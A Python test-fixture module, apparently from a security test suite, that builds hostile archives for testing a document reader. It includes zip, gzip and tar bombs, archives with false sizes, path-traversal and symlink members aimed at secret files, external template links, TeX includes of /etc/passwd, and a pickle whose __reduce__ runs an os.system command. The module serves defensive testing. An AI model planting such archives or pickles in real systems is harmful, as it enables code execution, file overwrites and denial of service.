"""Zip, gzip, zstd and tar: bombs, liars, names that climb, parts that attack the XML reader behind them."""

from __future__ import annotations

import gzip
import io
import pickle
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Iterator

import zstandard

from tests.security.cases import SENTENCE, Bait, Case, case, noise
from tests.security.cases.markup import doctypes

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATION = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCUMENT = f"<w:document {W}><w:body>@</w:body></w:document>"
PARAGRAPH = f"<w:p><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>"
ODT = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><office:body><office:text>@</office:text></office:body>'
    "</office:document-content>"
)
OPF = (
    '<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>B'
    '</dc:title></metadata><manifest><item id="a" href="{}" media-type="application/xhtml+xml"/></manifest>'
    '<spine><itemref idref="a"/></spine></package>'
)
CONTAINER = (
    '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0"><rootfiles><rootfile full-path="{}" '
    'media-type="application/oebps-package+xml"/></rootfiles></container>'
)
Parts = list[tuple[str, str | bytes]]


def zipped(parts: Parts, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # names that stand twice
        with zipfile.ZipFile(out, "w", method) as archive:
            for name, data in parts:
                archive.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data, compress_type=method)
    return out.getvalue()


def docx(body: str = PARAGRAPH, extra: Parts | None = None, head: str = "", relations: str = "") -> bytes:
    root = RELATION.format(f'<Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>')
    parts: Parts = [("[Content_Types].xml", TYPES), ("_rels/.rels", root), ("word/document.xml", head + DOCUMENT.replace("@", body))]
    return zipped([*parts, ("word/_rels/document.xml.rels", RELATION.format(relations)), *(extra or [])])


def odt(body: str = f"<text:p>{SENTENCE}</text:p>", extra: Parts | None = None, head: str = "") -> bytes:
    parts: Parts = [("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", head + ODT.replace("@", body))]
    styles = ODT.replace("content", "styles").replace("body>", "styles>").replace("<office:text>@</office:text>", "")
    return zipped([*parts, ("styles.xml", styles), *(extra or [])])


def epub(page: str = f"<p>{SENTENCE}</p>", extra: Parts | None = None, head: str = "", opf: str = "a.opf", href: str = "a.xhtml") -> bytes:
    body = f'{head}<html xmlns="http://www.w3.org/1999/xhtml"><head><title>B</title></head><body>{page}</body></html>'
    parts: Parts = [("mimetype", "application/epub+zip"), ("META-INF/container.xml", CONTAINER.format(opf))]
    return zipped([*parts, ("a.opf", OPF.format(href)), ("a.xhtml", body), *(extra or [])])


def _liar(data: bytes, size: int) -> bytes:
    """The archive with another unpacked size in its central directory, for the first member."""
    place = data.index(b"PK\x01\x02")
    return data[: place + 24] + struct.pack("<I", size) + data[place + 28 :]


def _bomb(whole: bytes) -> bytes:
    """The archive with a member that unfolds to 400 MB: one packed block many times over, each byte of it real."""
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    block = packer.compress(b" " * 20_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    data, name = block * 20 + b"\x03\x00", b"bomb.xml"
    end = whole.rindex(b"PK\x05\x06")
    start, members = struct.unpack("<I", whole[end + 16 : end + 20])[0], struct.unpack("<H", whole[end + 8 : end + 10])[0] + 1
    sizes = struct.pack("<III", zlib.crc32(b" " * 400_000_000), len(data), 400_000_000)
    common = struct.pack("<HHHHH", 20, 0, 8, 0, 33) + sizes + struct.pack("<HH", len(name), 0)
    directory = whole[start:end] + b"PK\x01\x02\x14\x00" + common + struct.pack("<HHHII", 0, 0, 0, 0, start) + name
    local = b"PK\x03\x04" + common + name + data
    tail = struct.pack("<HHHHIIH", 0, 0, members, members, len(directory), start + len(local), 0)
    return whole[:start] + local + directory + b"PK\x05\x06" + tail


def _overlapping(members: int) -> bytes:
    """Fifield's bomb: many entries of the directory share one packed kernel."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = b"\0" * 10_000_000
    kernel = packer.compress(zeros) + packer.flush()
    sizes = struct.pack("<III", zlib.crc32(zeros), len(kernel), len(zeros))
    name = b"word/document.xml"
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 33) + sizes + struct.pack("<HH", len(name), 0) + name + kernel
    directory = b""
    for number in range(members):
        own = name if number == 0 else f"word/d{number:012d}"[:17].encode()
        directory += b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 33) + sizes
        directory += struct.pack("<HHHHHII", len(own), 0, 0, 0, 0, 0, 0) + own
    return local + directory + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, members, members, len(directory), len(local), 0)


def _office(bait: Bait) -> Iterator[Case]:
    makers = {"docx": (docx, "w:document"), "odt": (odt, "office:document-content"), "epub": (epub, "html")}
    bomb = b" " * 20_000_000
    for ext, (make, root) in makers.items():
        whole = make()
        yield case(f"zip/sound.{ext}", whole, says=SENTENCE)
        for trick, (head, text) in doctypes(bait, root).items():
            body = f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" if ext == "docx" else f"<text:p>{text}</text:p>" if ext == "odt" else text
            yield case(f"zip/{trick}.{ext}", make(body, head=f'<?xml version="1.0"?>{head}'))
        for share in (10, 50, 90, 99):
            yield case(f"zip/cut{share}.{ext}", whole[: len(whole) * share // 100], "broken")
        yield case(f"zip/bomb.{ext}", _bomb(whole), "too_large unsafe")
        yield case(f"zip/picture-bomb.{ext}", make(extra=[("media/bomb.png", bomb)]))
        nested = zipped([("inner.docx", zipped([("x", bomb)]))])
        yield case(f"zip/nested.{ext}", make(extra=[("inner.zip", nested)]))
        yield case(f"zip/members.{ext}", make(extra=[(f"m{n}", "") for n in range(20_001)]), "unsafe too_large")
        climbing: Parts = [
            (f"../../..{bait.trap}/climb-{ext}", "x"),
            (f"{bait.trap}/absolute-{ext}", "x"),
            ("..\\..\\win", "x"),
            ("C:\\x", ""),
        ]
        yield case(f"zip/climbing.{ext}", make(extra=climbing))
        yield case(f"zip/twice.{ext}", make(extra=[("content.xml", "<x/>"), ("word/document.xml", "<x/>"), ("a.xhtml", "<x/>")]))
        yield case(f"zip/nul.{ext}", make(extra=[("word/document.xml\x00.png", "x"), ("a\nb\x1b[31m", "x")]))
        yield case(f"zip/liar.{ext}", _liar(whole, 3), "")
        yield case(f"zip/giant.{ext}", _liar(whole, 0xFFFFFFF0), "")
        yield case(f"zip/noise.{ext}", b"PK\x03\x04" + noise(5_000), "broken")
        flags = bytearray(whole)
        flags[flags.index(b"PK\x01\x02") + 8] |= 1
        yield case(f"zip/locked.{ext}", bytes(flags), "encrypted")
        deep = "<w:p>" * 30_000 if ext == "docx" else "<text:section>" * 30_000 if ext == "odt" else "<div>" * 30_000
        yield case(f"zip/deep.{ext}", make(deep))
    yield case("zip/overlapping.docx", _overlapping(500), "broken too_large unsafe")
    outside = f'<Relationship Id="r9" Type="{OFFICE}/image" Target="{bait.url}/i.png" TargetMode="External"/>'
    outside += f'<Relationship Id="r8" Type="{OFFICE}/attachedTemplate" Target="{bait.url}/t.dotm" TargetMode="External"/>'
    yield case("zip/outside.docx", docx(relations=outside))
    file = f'<Relationship Id="r7" Type="{OFFICE}/image" Target="../../../../..{bait.secret}"/>'
    yield case("zip/relation.docx", docx(relations=file))
    field = "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>INCLUDETEXT \"{}\"</w:instrText></w:r></w:p>"
    yield case("zip/field.docx", docx(PARAGRAPH + field.format(bait.secret)), says=SENTENCE)
    yield case("zip/picture.odt", odt(f"<text:p>{SENTENCE}<draw:frame><draw:image xlink:href='{bait.url}/x.png'/></draw:frame></text:p>"))
    yield case(
        "zip/section.odt", odt(f"<text:p>{SENTENCE}</text:p><text:section><text:section-source xlink:href='{bait.secret}'/></text:section>")
    )
    yield case("zip/opf.epub", epub(opf=f"../../../..{bait.secret}"))
    yield case("zip/href.epub", epub(href=f"../../../..{bait.secret}"))
    yield case("zip/chapter.epub", epub(href=f"{bait.url}/chapter"))
    yield case(
        "zip/script.epub", epub(f"<p>{SENTENCE}</p><script>pwned-by-payload</script><img src='{bait.url}/x'/>"), never=("pwned-by-payload",)
    )
    link = zipfile.ZipInfo("word/document.xml")
    link.external_attr = 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, str(bait.secret))
    yield case("zip/link.docx", out.getvalue(), "broken")


def _tar(*members: tuple[str, bytes], links: dict[str, str] | None = None) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            archive.addfile(info)
    return gzip.compress(out.getvalue(), mtime=0)


def _prints(bait: Bait) -> Iterator[Case]:
    """arXiv's e-prints: a gzipped TeX file, or a tar.gz of one."""
    top = f"\\documentclass{{article}}\\begin{{document}}{SENTENCE} @\\end{{document}}"
    secret = str(bait.secret)

    def tex(body: str) -> tuple[str, bytes]:
        return "main.tex", top.replace("@", body).encode()

    yield case("eprint/sound.tar.gz", _tar(tex("\\input{part}"), ("part.tex", b"A part of it.")))
    yield case("eprint/climbing.tar.gz", _tar(tex("x"), (f"../../../../..{bait.trap}/tar", b"x"), (f"{bait.trap}/tar2", b"x")))
    yield case("eprint/link.tar.gz", _tar(tex("\\input{l}"), links={"l.tex": secret, "d": "/"}))
    yield case("eprint/link-main.tar.gz", _tar(links={"main.tex": secret}))
    yield case("eprint/through-link.tar.gz", _tar(tex("\\input{d/x}"), ("d/x.tex", b"x"), links={"d": str(bait.trap)}))
    yield case("eprint/input.tar.gz", _tar(tex(f"\\input{{{secret}}}\\input{{/etc/passwd}}\\include{{../../../..{secret}}}")))
    yield case("eprint/cycle.tar.gz", _tar(tex("\\input{a}"), ("a.tex", b"\\input{b} a"), ("b.tex", b"\\input{a} b")))
    yield case("eprint/self.tar.gz", _tar(tex("\\input{main}")))
    fan = [(f"f{n}.tex", f"\\input{{f{n + 1}}}".encode() * 10) for n in range(12)]
    yield case("eprint/fan.tar.gz", _tar(tex("\\input{f0}"), *fan, ("f12.tex", b"word " * 100)))
    yield case("eprint/bomb.tar.gz", _tar(tex("x"), ("big.tex", b" " * 60_000_000)))
    yield case("eprint/gzip-bomb.gz", gzip.compress(b"\0" * 20_000_000, 1, mtime=0) * 20)
    yield case("eprint/cut.tar.gz", _tar(tex("x" * 5000), ("n.bin", noise(20_000)))[:-15_000])
    yield case("eprint/noise.tar.gz", b"\x1f\x8b\x08\x00" + noise(3_000))
    yield case("eprint/many.tar.gz", _tar(tex("x"), *((f"f{n}.tex", b"") for n in range(21_000))))


class _Payload:
    def __init__(self, trap: str) -> None:
        self._trap = trap

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (f"touch {self._trap}",)


def _pickles(bait: Bait) -> Iterator[Case]:
    for ext in ("pkl", "bin", "txt", "npy", "pt", "md", "json", "ipynb", "pdf", "docx", "jsonl", "atom"):
        for protocol in (0, 4):
            data = pickle.dumps(_Payload(f"{bait.trap}/pickle-{ext}-{protocol}"), protocol)
            yield case(f"pickle/p{protocol}.{ext}", data, "" if protocol == 0 else "broken bad_record")
    torch = zipped([("archive/data.pkl", pickle.dumps(_Payload(f"{bait.trap}/torch"))), ("archive/version", "3")])
    yield case("pickle/model.pt", torch, "no_reader")
    yield case("pickle/model.docx", torch, "no_reader mislabelled")
    yield case("pickle/array.npy", b"\x93NUMPY\x01\x00" + pickle.dumps(_Payload(f"{bait.trap}/npy")), "broken")


def _packed(bait: Bait) -> Iterator[Case]:
    line = b'{"id": "%b", "title": "T", "abstract": "' + SENTENCE.encode() + b'"}\n'
    for ext, pack in (("gz", lambda data: gzip.compress(data, 1, mtime=0)), ("zst", zstandard.compress)):
        good = b"".join(line.replace(b"%b", b"p:%b:%d" % (ext.encode(), n)) for n in range(3))
        whole = pack(good + line.replace(b"%b", b"q:" + ext.encode()).replace(b"T", noise(3000).hex().encode()))
        yield case(f"dump/sound.jsonl.{ext}", whole)
        yield case(f"dump/zeros.jsonl.{ext}", pack(good) + pack(b"\0" * 20_000_000) * 15, "too_large bad_record")
        yield case(f"dump/lines.jsonl.{ext}", pack(good) + pack(b"\n" * 20_000_000) * 15, "too_large bad_record")
        yield case(f"dump/spaces.jsonl.{ext}", pack(b'{"id": "s", "title": "' + b" " * 40_000_000 + b'"}\n'), "bad_record")
        for share in (30, 80):
            yield case(f"dump/cut{share}.jsonl.{ext}", whole[: len(whole) * share // 100], "broken")
        yield case(f"dump/noise.jsonl.{ext}", whole[:20] + noise(2_000), "broken")
        yield case(f"dump/twice.jsonl.{ext}", pack(pack(good)), "bad_record broken")
        yield case(f"dump/notebook.ipynb.{ext}", pack(b'{"cells": []}'))
    yield case("dump/window.jsonl.zst", b"\x28\xb5\x2f\xfd\x00\xf8" + noise(400), "broken")


def cases(bait: Bait) -> Iterator[Case]:
    for group in (_office, _prints, _pickles, _packed):
        yield from group(bait)
